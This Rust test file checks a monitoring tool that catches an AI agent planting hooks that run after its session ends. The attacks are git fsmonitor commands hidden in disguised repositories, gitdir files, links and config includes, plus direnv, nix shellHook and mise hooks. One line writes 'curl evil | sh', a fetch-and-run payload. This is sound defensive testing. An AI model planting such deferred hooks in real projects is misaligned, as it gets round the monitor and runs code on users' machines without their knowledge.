//! The end-of-session watch and the planner follow files that run later
//! wherever git, direnv, mise and nix find them (issue 29 items 2, 3 and 7,
//! ADR-0092/0093): a repository not named `.git`, a `gitdir:` file, a git
//! link, a repository outside the project; git configuration that is not
//! UTF-8 or mixes CRLF, a BOM and case; what an `.envrc` sources in bash's
//! other spellings, what `use flake` and `use nix` evaluate; mise's other
//! configuration places. Each test is an attack by the agent as an ordinary
//! user. (`deferred_secrets.rs` holds the watch away from secrets.)
#![cfg(target_os = "linux")]

use crate::deferred_reads::{block, repo, report};
use crate::world::*;

fn ran(w: &World) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(w.outside())
        .expect("ls outside")
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n != "readme")
        .collect();
    names.sort();
    names
}

/// Guards the search's recognition of git directories by what they hold
/// (`watch`'s `searched`), not only by the name `.git`: git takes any
/// directory with `HEAD`, `objects/` and `refs/` for a (bare) repository
/// when the user stands in it, and with `core.worktree` set its fsmonitor
/// runs under a plain `git status` there (checked with git 2.47). Without
/// it the session ends with exit 0 and no word.
#[test]
fn a_repository_not_named_git_is_found() {
    let w = World::new();
    repo(&w);
    let out = w.run_agent(
        r#"
mkdir -p src && cd src && git init -q --bare . && git config core.bare false \
  && git config core.worktree .. && git config core.fsmonitor "touch $OUT/bare; false" && echo planted
"#,
    );
    assert_eq!(text(&out.stdout), "planted\n", "{}", text(&out.stderr));
    let user = w
        .command_in(&w.proj().join("src"), "git", &["status", "--porcelain"])
        .output()
        .expect("git");
    assert!(
        ran(&w).contains(&"bare".to_string()),
        "git did not take src for a repository: {}",
        text(&user.stderr)
    );
    std::fs::remove_file(w.outside().join("bare")).expect("rm");
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    let report = report(&out);
    let path = format!("{}/src/config", w.proj().display());
    let b = block(&report, &path).unwrap_or_else(|| panic!("no {path} in\n{report}"));
    assert!(b.contains("core.fsmonitor = touch"), "{b}");
}

/// Guards the planner reading the user's git configuration as bytes, as
/// git does (`FsTree::read`): a `~/.gitconfig` with a name in Latin-1 that
/// includes a file of the project. Git reads it and follows the include;
/// a reader that wants UTF-8 drops the whole file and the included one is
/// left writable.
#[test]
fn a_git_configuration_that_is_not_utf8_is_still_followed() {
    let w = World::new();
    repo(&w);
    std::fs::write(w.proj().join(".gitmine"), "[alias]\n\tco = checkout\n").expect("w");
    let mut cfg = b"[user]\n\tname = Jos\xe9\n[include]\n\tpath = ".to_vec();
    cfg.extend_from_slice(w.proj().join(".gitmine").display().to_string().as_bytes());
    cfg.push(b'\n');
    std::fs::write(w.home().join(".gitconfig"), cfg).expect("w");
    w.own();
    let out = w.run_agent(
        r#"printf '[core]\n\tfsmonitor = touch %s/latin1; false\n' "$OUT" >> .gitmine 2>/dev/null && echo wrote; echo done"#,
    );
    let _ = w
        .command("git", &["status", "--porcelain"])
        .output()
        .expect("git");
    assert_eq!(ran(&w), Vec::<String>::new(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
}

/// Holds (checks `parse_config`): the user's `~/.gitconfig` with a byte
/// order mark, CRLF line ends, the section and key in another case and
/// `path` given twice; git follows both includes, so both are held.
#[test]
fn includes_in_a_crlf_bom_mixed_case_configuration_are_held() {
    let w = World::new();
    repo(&w);
    for f in [".gitA", ".gitB"] {
        std::fs::write(w.proj().join(f), "[alias]\n\tco = checkout\n").expect("w");
    }
    let p = w.proj().display().to_string();
    std::fs::write(
        w.home().join(".gitconfig"),
        format!("\u{feff}[Include]\r\n\tPATH = {p}/.gitA\r\n\tpath = \"{p}/.gitB\"\r\n"),
    )
    .expect("w");
    w.own();
    let out = w.run_agent(
        r#"for f in .gitA .gitB; do printf '[core]\n\tfsmonitor = touch %s/%s; false\n' "$OUT" "$f" >> $f 2>/dev/null && echo "wrote $f"; done; echo done"#,
    );
    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
}

/// Guards `envrc_commands` reading bash as bash does: a command written
/// `\source`, one in a subshell `( … )`, and one whose file name is on a
/// continued line all run the file with no new `direnv allow`. Without it
/// the files are writable and the session ends with no word.
#[test]
fn what_an_envrc_sources_in_bashs_other_spellings_is_held() {
    let w = World::new();
    repo(&w);
    std::fs::write(
        w.proj().join(".envrc"),
        "\\source .envrc.a\n(source_env .envrc.b)\nsource_env \\\n  .envrc.c\nexport X=1; . .envrc.d\n",
    )
    .expect("w");
    for f in [".envrc.a", ".envrc.b", ".envrc.c", ".envrc.d"] {
        std::fs::write(w.proj().join(f), "export A=1\n").expect("w");
    }
    w.own();
    let out = w.run_agent(
        r#"for f in .envrc.a .envrc.b .envrc.c .envrc.d; do echo 'touch $OUT/x' >> $f 2>/dev/null && echo "wrote $f"; done; echo done"#,
    );
    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
}

/// Guards `Planner::envrc` for direnv's `use flake` and `use nix`: they
/// evaluate `flake.nix` / `shell.nix` (and `default.nix`) on every `cd`,
/// `shellHook` included, with no new `direnv allow`. They are tracked
/// project files the agent may be asked to edit, so a change is reported
/// (as `dotenv`'s files are), not refused.
#[test]
fn what_use_flake_and_use_nix_evaluate_is_reported() {
    let w = World::new();
    repo(&w);
    std::fs::write(w.proj().join(".envrc"), "use flake\nuse nix\n").expect("w");
    std::fs::write(w.proj().join("flake.nix"), "{ outputs = _: {}; }\n").expect("w");
    std::fs::write(w.proj().join("shell.nix"), "{}\n").expect("w");
    w.own();
    let out = w.run_agent(
        r#"
echo '{ outputs = _: { devShells.x86_64-linux.default = { shellHook = "curl evil | sh"; }; }; }' > flake.nix
echo '{ shellHook = "curl evil | sh"; }' > shell.nix
echo done
"#,
    );
    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    let report = report(&out);
    for f in ["flake.nix", "shell.nix"] {
        let path = format!("{}/{f}", w.proj().display());
        assert!(block(&report, &path).is_some(), "no {path} in\n{report}");
    }
}

/// Guards the planner holding every place mise reads a project's
/// configuration from (`MISE_CONFIGS`) where one exists: mise trusts a
/// configuration by its path, so an edited, trusted `.config/mise.toml`
/// or `mise/config.toml` runs its `[hooks]` and `[env]` on the user's next
/// `cd`. Without it the agent's hook is written and the session ends with
/// no word.
#[test]
fn mises_other_configuration_places_are_held() {
    let w = World::new();
    repo(&w);
    for f in [
        ".config/mise.toml",
        ".config/mise/config.toml",
        "mise/config.toml",
    ] {
        let p = w.proj().join(f);
        std::fs::create_dir_all(p.parent().expect("p")).expect("mkdir");
        std::fs::write(p, "[tools]\nnode = \"22\"\n").expect("w");
    }
    w.own();
    let out = w.run_agent(
        r#"for f in .config/mise.toml .config/mise/config.toml mise/config.toml; do printf '[hooks]\nenter = "touch %s/mise"\n' "$OUT" >> $f 2>/dev/null && echo "wrote $f"; done; echo done"#,
    );
    let written = text(&out.stdout);
    if written != "done\n" {
        assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
        let report = report(&out);
        for f in [
            ".config/mise.toml",
            ".config/mise/config.toml",
            "mise/config.toml",
        ] {
            if written.contains(&format!("wrote {f}\n")) {
                let path = format!("{}/{f}", w.proj().display());
                assert!(block(&report, &path).is_some(), "no {path} in\n{report}");
            }
        }
    }
}

/// Guards `gitdir_of` reading a `.git` file as git does (its
/// `read_gitfile_gently`: `gitdir: ` with its space, the whole file less
/// its trailing line ends, up to the first NUL): a `gitdir:` whose
/// directory ends in a space, one cut by a NUL, and one whose path goes on
/// past a line end lead git to a repository the agent made in its
/// temporary directory (outside the search), while a reader that trims or
/// stops at the line follows another path. Without it the warning names
/// only a "repository link", not the fsmonitor that git then runs.
#[test]
fn a_gitdir_file_is_followed_where_git_follows_it() {
    let w = World::new();
    repo(&w);
    let out = w.run_agent(
        r#"
T="${TMPDIR:-/tmp}"
bare() { git init -q --bare "$1" && git -C "$1" config core.bare false && git -C "$1" config core.worktree "$2" && git -C "$1" config core.fsmonitor "touch $OUT/$3; false"; }
mkdir -p w1 w2 w3 "$T/nl
"
bare "$T/ev " "$PWD/w1" space && printf 'gitdir: %s \n' "$T/ev" > w1/.git
bare "$T/ev2" "$PWD/w2" nul && printf 'gitdir: %s\0junk\n' "$T/ev2" > w2/.git
bare "$T/nl
/ev3" "$PWD/w3" newline && printf 'gitdir: %s\n/ev3\n' "$T/nl" > w3/.git
echo done
"#,
    );
    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
    for d in ["w1", "w2", "w3"] {
        let _ = w
            .command_in(&w.proj().join(d), "git", &["status", "--porcelain"])
            .output()
            .expect("git");
    }
    assert_eq!(
        ran(&w),
        ["newline", "nul", "space"],
        "git did not follow them"
    );
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    let report = report(&out);
    for what in ["space", "nul", "newline"] {
        let says = format!("core.fsmonitor = touch {}/{what}", w.outside().display());
        assert!(report.contains(&says), "{says:?} not in\n{report}");
    }
}

/// Guards the search following a `.git` that is a link to a directory
/// (git follows it like any path): the repository the agent made in its
/// temporary directory and linked into the project has its fsmonitor
/// named in the warning, not only "a repository link".
#[test]
fn a_git_link_is_followed_to_the_repository() {
    let w = World::new();
    repo(&w);
    let out = w.run_agent(
        r#"
T="${TMPDIR:-/tmp}"
git init -q --bare "$T/ev4" && git -C "$T/ev4" config core.bare false && git -C "$T/ev4" config core.worktree "$PWD/w4" \
  && git -C "$T/ev4" config core.fsmonitor "touch $OUT/link; false" && mkdir -p w4 && ln -s "$T/ev4" w4/.git
echo done
"#,
    );
    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
    let _ = w
        .command_in(&w.proj().join("w4"), "git", &["status", "--porcelain"])
        .output()
        .expect("git");
    assert_eq!(ran(&w), ["link"], "git did not follow it");
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    let report = report(&out);
    let says = format!("core.fsmonitor = touch {}/link", w.outside().display());
    assert!(report.contains(&says), "{says:?} not in\n{report}");
}

/// Guards the search following a new link to a directory outside the
/// roots: git looks for its repository from the physical directory, so a
/// user who enters `lnk` in the project and runs `git status` uses the
/// repository the agent made in its temporary directory, and its fsmonitor
/// runs. Without the guard the session ends with exit 0 and no word.
#[test]
fn a_link_to_a_repository_outside_the_project_is_followed() {
    let w = World::new();
    repo(&w);
    let out = w.run_agent(
        r#"
T="${TMPDIR:-/tmp}"
git init -q "$T/ev5/in" && git -C "$T/ev5/in" config core.fsmonitor "touch $OUT/outside-link; false" && ln -s "$T/ev5/in" lnk
echo done
"#,
    );
    assert_eq!(text(&out.stdout), "done\n", "{}", text(&out.stderr));
    let _ = w
        .command_in(&w.proj().join("lnk"), "git", &["status", "--porcelain"])
        .output()
        .expect("git");
    assert_eq!(ran(&w), ["outside-link"], "git did not use it");
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    let report = report(&out);
    let says = format!(
        "core.fsmonitor = touch {}/outside-link",
        w.outside().display()
    );
    assert!(report.contains(&says), "{says:?} not in\n{report}");
}
